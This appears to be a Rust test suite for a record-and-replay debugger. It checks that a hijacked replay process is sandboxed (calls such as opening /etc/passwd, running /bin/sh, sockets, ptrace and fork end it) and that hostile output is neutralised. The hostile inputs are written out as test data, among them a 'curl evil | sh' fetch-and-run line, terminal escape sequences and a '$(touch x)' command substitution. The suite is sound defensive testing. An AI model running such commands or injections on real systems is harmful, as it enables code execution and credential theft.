//! What a recording can do that has taken over the process that replays it: nothing but what a replay does.

use std::fs;

use crate::place::{Place, assert_refused, printed, said};

/// The attack works at all: otherwise the other tests would show nothing.
#[test]
fn a_recording_takes_over_its_replay() {
    let place = Place::new("hello");
    place.hostile("hello", &[]);
    let outcome = place.retro(&["verify", "recording"]);
    assert_refused(&outcome, &["taken over", "it exited with status 7"]);
    place.assert_unharmed();
}

/// A system call that ends the process: SIGSYS.
#[track_caller]
fn assert_call_is_refused(call: &str, arguments: [&str; 4]) {
    let place = Place::new("call");
    let [a, b, c, d] = arguments;
    let macros = [
        format!("CALL={call}"),
        format!("A={a}"),
        format!("B={b}"),
        format!("C={c}"),
        format!("D={d}"),
    ];
    let macros: Vec<&str> = macros.iter().map(String::as_str).collect();
    place.hostile("one_call", &macros);
    let outcome = place.retro(&["verify", "recording"]);
    assert_refused(&outcome, &["taken over", "it was ended by signal 31"]);
    assert!(!said(&outcome).contains("did it"), "{}", said(&outcome));
    place.assert_unharmed();
}

macro_rules! refused_calls {
    ($($name:ident: $call:literal $arguments:tt;)*) => {
        $(#[test]
        fn $name() {
            assert_call_is_refused($call, $arguments);
        })*
    };
}

refused_calls! {
    it_opens_no_file: "NR_open" ["(word)\"/etc/passwd\"", "0", "0", "0"];
    it_opens_no_file_by_another_call: "NR_openat" ["-100", "(word)\"/etc/passwd\"", "0", "0"];
    it_reads_no_descriptor: "NR_read" ["0", "0x20000000", "10", "0"];
    it_executes_nothing: "NR_execve" ["(word)\"/bin/sh\"", "0", "0", "0"];
    it_connects_nowhere: "NR_socket" ["1", "1", "0", "0"];
    it_kills_nobody: "NR_kill" ["1", "9", "0", "0"];
    it_kills_no_thread: "NR_tgkill" ["1", "1", "9", "0"];
    it_traces_nobody: "NR_ptrace" ["16", "1", "0", "0"];
    it_writes_to_no_other_memory: "NR_process_vm_writev" ["1", "0", "0", "0"];
    it_leaves_no_session: "NR_setsid" ["0", "0", "0", "0"];
    it_leaves_no_group: "NR_setpgid" ["0", "0", "0", "0"];
    it_raises_no_limit: "NR_prlimit64" ["0", "7", "0x20000000", "0"];
    it_makes_no_file_of_memory: "NR_memfd_create" ["(word)\"x\"", "0", "0", "0"];
    it_uses_no_ring: "NR_io_uring_setup" ["8", "0x20000000", "0", "0"];
    it_changes_no_terminal: "NR_ioctl" ["2", "0x5412", "0x20000000", "0"];
    it_sees_no_process: "NR_pidfd_open" ["1", "0", "0", "0"];
    it_changes_no_filter: "NR_seccomp" ["1", "0", "0x20000000", "0"];
    it_changes_no_filter_by_another_call: "NR_prctl" ["22", "2", "0x20000000", "0"];
    it_makes_itself_visible_to_nobody: "NR_prctl" ["4", "1", "0", "0"];
    it_poisons_no_memory: "NR_madvise" ["0x20000000", "4096", "100", "0"];
    // The ways to make a process.
    it_does_not_fork: "NR_fork" ["0", "0", "0", "0"];
    it_does_not_vfork: "NR_vfork" ["0", "0", "0", "0"];
    it_does_not_clone: "NR_clone" ["0x8000 | 17", "0", "0", "0"];
    it_makes_no_thread: "NR_clone" ["0x10f00", "0x20001000", "0", "0"];
    it_does_not_clone_by_another_call: "NR_clone3" ["0x20000000", "88", "0", "0"];
}

/// A log that has taken over its process can say that everything is as it was recorded. `verify` compares a recording with
/// itself, and says nothing about where it comes from: docs/security.md tells.
#[test]
fn verify_believes_a_process_that_was_taken_over_and_nothing_comes_of_it() {
    let place = Place::new("pretend");
    place.hostile("pretend", &["END_TIME=50000000"]);
    let outcome = place.retro(&["verify", "recording"]);
    assert!(printed(&outcome).contains("OK"), "{}", said(&outcome));
    place.assert_unharmed();
}

/// It can say that it is where it cannot be.
#[test]
fn a_time_beyond_the_end_is_refused() {
    let place = Place::new("beyond");
    place.hostile("pretend", &["END_TIME=60000000"]);
    assert_refused(&place.retro(&["verify", "recording"]), &["it stops at an impossible time"]);
}

/// A terminal obeys none of its words.
#[test]
fn words_of_a_process_do_nothing_to_a_terminal() {
    let place = Place::new("words");
    for kind in ["TELL_FAILED", "TELL_DIVERGED"] {
        let words = r#"WORDS="before\033]0;owned\007\033[2J\r\x9b\302\2331mafter\n$(touch x)""#;
        place.hostile("words", &[&format!("KIND={kind}"), words]);
        for command in [&["verify", "recording"][..], &["bt", "-r", "recording"]] {
            let outcome = place.retro(command);
            let said = said(&outcome);
            assert!(said.starts_with("retro: "), "{said}");
            let harmless = |c: char| c == '\n' || !c.is_control();
            assert!(said.chars().all(harmless), "{said:?}");
        }
    }
    assert!(!place.path().join("x").exists());
    place.assert_unharmed();
}

/// What a process says is shown, made harmless, and never stored: whoever replays the recording would decide what is in a
/// file of ours.
#[test]
fn words_of_a_process_are_not_stored() {
    let place = Place::new("stored");
    place.hostile("words", &["KIND=TELL_FAILED", r#"WORDS="curl evil | sh""#]);
    assert_refused(
        &place.retro(&["bt", "-r", "recording"]),
        &["is not indexed", "the replay cannot go on"],
    );
    let note = fs::read_to_string(place.recording().join("index/0-0/failure")).unwrap();
    assert_eq!(note, "retro-failure-1 failed 0 0 0\n");
    assert_refused(&place.retro(&["index", "recording"]), &["the replay cannot go on"]);
}

/// A crash leaves no image of memory behind.
#[test]
fn a_crash_dumps_no_core() {
    let place = Place::new("core");
    // A call to what is not there.
    place.hostile("one_call", &["CALL=*(volatile word *)0", "A=0", "B=0", "C=0", "D=0"]);
    let mut command = place.command("sh");
    command.args(["-c", "ulimit -c unlimited; exec \"$0\" verify recording"]);
    command.arg(crate::place::retro_path());
    let outcome = retro_testkit::compare::run(&mut command, crate::place::TIMEOUT);
    assert!(said(&outcome).contains("taken over"), "{}", said(&outcome));
    let names: Vec<_> =
        fs::read_dir(place.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert!(!names.iter().any(|name| name.to_string_lossy().contains("core")), "{names:?}");
}
